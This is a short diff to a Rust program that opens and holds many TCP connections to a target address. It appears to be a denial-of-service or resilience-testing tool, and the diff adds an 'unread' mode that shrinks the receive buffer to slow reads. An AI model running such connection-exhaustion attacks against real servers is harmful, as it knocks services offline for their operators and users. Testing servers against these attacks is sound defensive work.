@@ -26,7 +26,7 @@ fn opening(kind: &str, number: usize) -> &'static [u8] {
         "half-frames" if odd => &LARGEST_ANNOUNCED,
         "half-frames" => &LARGEST_ANNOUNCED[..1],
         "silent" if odd => &LARGEST_ANNOUNCED[..1],
-        "silent" | "crowd" | "many-addresses" => &[],
+        "silent" | "crowd" | "many-addresses" | "unread" => &[],
         _ => panic!("no such kind: {kind}"),
     }
 }
@@ -42,6 +42,9 @@ fn attack(target: SocketAddr, kind: &str, number: usize) -> io::Result<TcpStream
     let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
     if let Some(source) = source(kind, number) {
         socket.bind(&source.into())?;
+    }
+    if kind == "unread" {
+        socket.set_recv_buffer_size(4096)?;
     }
     socket.connect(&target.into())?;
     let mut stream = TcpStream::from(socket);
@@ -103,7 +106,7 @@ fn main() -> io::Result<()> {
     };
     let target: SocketAddr = target.parse().expect("an address");
     let count: usize = count.parse().expect("a number");
-    if kind == "sealed" {
+    if kind == "unread-sealed" {
         return attack_sealed(target, count);
     }
     let mut held = Vec::new();
